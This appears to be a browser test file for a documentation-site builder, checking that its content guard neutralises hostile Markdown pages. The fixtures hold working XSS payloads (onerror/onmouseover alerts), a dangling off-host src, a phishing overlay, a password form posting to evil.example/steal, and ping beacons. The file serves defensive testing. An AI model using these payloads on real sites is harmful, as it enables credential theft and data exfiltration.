"""Hostile hand-written pages in docs/, opened in real Chromium (Debian's, driven by Playwright):
for each attack, no dialog fires and no request leaves the site's host.

The site is built without --strict and without `explainer check`'s judgement of docs/ (which
refuses every one of these pages, tests/test_check_docs.py), so what the content guard cuts is
published cut (a strict build, the default, fails on it instead: tests/test_hostile_docs.py).
Pages:

* front matter with markup (printed by Material in every page's navigation),
* an incomplete tag at a page's end (it would close on the template's `>`), a dangling
  ``src="https://host/?`` (it would send the rest of the page off-host),
* chart figures naming plotly.js and figure files elsewhere (another host, or the site's own
  files that are not charts),
* CSS that loads (``image-set``) or overlays (``position:fixed``), a password form, ``ping``.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import (
    build_without_docs_check,
    copy_project,
    run_explainer,
    static_server,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("hostile-browser")]

FIGURE = ('<figure class="explainer-chart" id="{id}" data-chart="{chart}" data-figure="{figure}" '
          'data-plotly="{plotly}" data-static="0"><div class="explainer-chart__plot">'
          '<div class="explainer-chart__canvas"></div></div></figure>')

PAGES = {
    "about.md": '---\ntitle: "About <img src=x onerror=alert(1)>"\n'
                'subtitle: "<b onmouseover=alert(2)>hover</b><img src=x onerror=alert(3)>"\n---\n'
                "\n# About\n\nText.\n",
    "open-tag.md": "# Open tag\n\nText stays.\n\n<div><img src=x onerror=alert(4)//",
    "dangling.md": '# Dangling\n\nText stays.\n\n<p>Pay <img src="https://evil.example/?',
    "figures.md": "# Charts\n\n" + FIGURE.format(
        id="offhost", chart="evil", figure="https://evil.example/f.json",
        plotly="https://evil.example/plotly-basic-4.1.1.min.js") + "\n\n" + FIGURE.format(
        id="ownfiles", chart="facts", figure="../data/facts.json",
        plotly="../assets/explainer/explainer-indexes.js") + "\n\n" + FIGURE.format(
        id="protocol", chart="evil", figure="//evil.example/f.json",
        plotly="//evil.example/charts/plotly-basic-4.1.1.min.js") + "\n",
    "styles.md": "# Styles\n\n"
                 '<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;'
                 'z-index:9999;background-color:white">Log in again</div>\n\n'
                 '<p id="set" style="background-image:image-set(url(https://evil.example/a.png)'
                 ' 1x)">a</p>\n\n<p style="background:-webkit-image-set(url(//evil.example/b.png)'
                 ' 1x)">b</p>\n\n<p id="kept" style="text-align: center; color: #c00">kept</p>\n',
    "form.md": "# Form\n\n"
               '<form action="https://evil.example/steal" method="post"><input type="password" '
               'name="p" autofocus onfocus="alert(5)"><button id="go">Sign in</button></form>\n\n'
               '<a id="pinged" href="../about/" ping="https://evil.example/ping" '
               'attributionsrc="https://evil.example/attr">go</a>\n',
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("hostile-browser") / "project")
    for name, text in PAGES.items():
        (root / "docs" / name).write_text(text, "utf-8")
    # explainer check (run first by every build) refuses each page, naming it ...
    checked = run_explainer(root, "check", "--strict")
    assert checked.returncode == 1
    for name in PAGES:
        assert f"docs/{name}:" in checked.stdout, (name, checked.stdout)
    # ... so the build's own defences, which these pages test in the browser, are reached with
    # the check of docs/ switched off.
    out = root / "out"
    done = build_without_docs_check(root, out, "--no-strict")
    assert done.returncode == 0, done.stderr
    return out


@pytest.fixture(scope="module")
def base(site: Path) -> Iterator[str]:
    with static_server(site) as url:
        yield url


class Watch:
    """Every dialog and every request of one page."""

    def __init__(self, page: Any, base: str) -> None:
        self.base = base
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: self.requests.append(r.url))

    def foreign(self) -> list[str]:
        return [u for u in self.requests if not u.startswith(self.base)
                and not u.startswith("data:")]


def open_page(browser: Any, base: str, path: str) -> tuple[Any, Watch]:
    page = browser.new_page()
    watch = Watch(page, base)
    page.goto(base + path, wait_until="load")  # an <img src=x> has failed (onerror) by then
    return page, watch


def test_the_watch_sees_a_dialog_and_a_foreign_request(browser: Any, base: str) -> None:
    """Control: in this browser, the markup the attacks use does fire and fetch when it lands
    in a page, so the empty lists below mean something."""
    page, watch = open_page(browser, base, "")
    with page.expect_event("dialog"):
        page.evaluate("""() => { const d = document.createElement('div');
            d.innerHTML = '<img src=x onerror=alert(9)>'; document.body.append(d); }""")
    page.evaluate("() => fetch('https://evil.example/control').catch(() => null)")
    page.close()
    assert "9" in watch.dialogs
    assert "https://evil.example/control" in watch.foreign()


@pytest.mark.parametrize("path", ["", "about/", "open-tag/", "dangling/", "styles/", "form/"])
def test_no_dialog_and_nothing_off_host(browser: Any, base: str, path: str) -> None:
    """Each attack page (and the home page, whose navigation lists the hostile title): loaded,
    the navigation hovered, the page scrolled; no dialog, no request off the site's host."""
    page, watch = open_page(browser, base, path)
    for link in page.locator("nav a").all()[:12]:
        if link.is_visible():
            link.hover()
    page.mouse.wheel(0, 4000)
    text = page.locator("body").inner_text()
    page.close()
    assert watch.dialogs == [], watch.dialogs
    assert watch.foreign() == [], watch.foreign()
    if path in ("", "about/"):
        assert "About <img src=x onerror=alert(1)>" in text  # the title, shown as written
    if path in ("open-tag/", "dangling/"):
        assert "Text stays." in text


def test_chart_figures_load_only_the_sites_own_chart_files(browser: Any, base: str) -> None:
    """Figures naming plotly.js and figure JSON on another host lose those attributes at build
    (the guard); figures naming the site's own files that are not charts are refused by
    explainer-charts.js once the reader scrolls to them (data-state="refused"). Nothing is
    fetched from any of those addresses."""
    page, watch = open_page(browser, base, "figures/")
    for figure in ("#offhost", "#protocol"):
        named = page.eval_on_selector(figure, "e => [e.getAttribute('data-figure'), "
                                              "e.getAttribute('data-plotly')]")
        assert named == [None, None], (figure, named)
    page.locator("#ownfiles").scroll_into_view_if_needed()
    page.wait_for_selector('#ownfiles[data-state="refused"]', state="attached")
    page.mouse.wheel(0, 4000)
    page.close()
    assert watch.dialogs == []
    assert watch.foreign() == []
    assert not [u for u in watch.requests if u.endswith("data/facts.json")]
    assert len([u for u in watch.requests if u.endswith("explainer-indexes.js")]) == 1


def test_styles_neither_overlay_nor_fetch(browser: Any, base: str) -> None:
    page, watch = open_page(browser, base, "styles/")
    position = page.eval_on_selector("#overlay", "e => getComputedStyle(e).position")
    background = page.eval_on_selector("#set", "e => getComputedStyle(e).backgroundImage")
    kept = page.eval_on_selector("#kept", "e => getComputedStyle(e).textAlign")
    page.close()
    assert position == "static"
    assert background == "none"
    assert kept == "center", "plain styles from the allow-list stay"
    assert watch.foreign() == []


def test_no_password_form_and_no_ping(browser: Any, base: str) -> None:
    page, watch = open_page(browser, base, "form/")
    inputs = page.locator("article input, article form, article button").count()
    with page.expect_navigation(url=base + "about/"):
        page.click("#pinged")  # a ping would be sent as the link is followed
    page.close()
    assert inputs == 0
    assert watch.dialogs == []
    assert watch.foreign() == []
